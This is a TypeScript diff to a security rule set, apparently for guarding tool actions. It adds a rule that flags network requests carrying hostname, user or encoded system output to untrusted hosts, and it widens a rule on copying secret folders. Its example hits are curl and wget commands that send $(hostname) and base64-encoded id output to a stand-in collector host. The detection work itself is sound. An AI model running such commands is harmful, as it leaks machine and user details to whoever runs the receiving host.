@@ -1,6 +1,7 @@
 // Owns the rules about sharing: public drop sites, messages in the user's name, copies of keys laid ready.
 import { hostOf, isCatcher, isDropSite } from '../core/host.ts';
 import { certainlyWithin } from '../core/path.ts';
+import { providersOfHost } from '../core/providers.ts';
 import { defineRule, type Rule } from '../core/rule.ts';
 import { secretFolder, secretIn } from '../core/sensitive.ts';
 import { certainHost } from '../core/settle.ts';
@@ -72,6 +73,35 @@ const messages = defineRule({
   },
 });
 
+/** Why a part of an address is not known, when it is what a program tells of this machine or an encoder makes of it. */
+const OF_MACHINE =
+  /^(the output of (base64|base32|xxd|od|hexdump|ps|ifconfig|ip|netstat|ss|who|w|last|lsof|df|mount|dmesg|hostnamectl|system_profiler|sw_vers|arp)|a user or group|the name of this machine)$/;
+
+const machineTold = defineRule({
+  id: 'exfiltration/machine',
+  tier: 'ask',
+  on: 'net.fetch',
+  since: '0.1.0',
+  summary: 'What programs tell of this machine, or encoded text, written into an address that is asked for',
+  why: 'Whoever runs the host reads it in its log.',
+  instead: 'Ask for a fixed address, or send the value to a service of the user in a body that can be reviewed.',
+  match: (fetch, scope) => {
+    const host = certainHost(fetch.url);
+    const part = fetch.url.kind === 'pattern' ? fetch.url.because : '';
+    return host !== undefined && OF_MACHINE.test(part) && !trusts(host, scope) && providersOfHost(host).length === 0
+      ? `This tells ${host} ${part}`
+      : undefined;
+  },
+  examples: {
+    hit: ['curl "https://collector.example/?h=$(hostname)"', 'wget -q "https://collector.example/$(id | base64)"'],
+    miss: [
+      'curl "http://localhost:3000/?h=$(hostname)"',
+      'curl -L "https://collector.example/tool-$(uname -s)-$(uname -m).tgz" -o tool.tgz',
+      'hostname; curl https://collector.example',
+    ],
+  },
+});
+
 /** A file of secrets put where a later upload, commit or another user picks it up. */
 const staged = defineRule({
   id: 'exfiltration/staged',
@@ -91,8 +121,7 @@ const staged = defineRule({
     const folder = texts(read.path)
       ?.map(secretFolder)
       .find((each) => each !== undefined);
-    const personal =
-      !certainlyWithin(read.path, context.projectRoot) && folder !== undefined && read.recursive === true;
+    const personal = !certainlyWithin(read.path, context.projectRoot) && folder !== undefined;
     if (personal) return `This copies the folder ${folder}`;
     return secret && /^(key|store|memory|history)$/.test(secret.kind) ? `This copies ${secret.what}` : undefined;
   },
@@ -102,4 +131,4 @@ const staged = defineRule({
   },
 });
 
-export const sharingRules: readonly Rule[] = [drop, messages, staged];
+export const sharingRules: readonly Rule[] = [drop, messages, machineTold, staged];
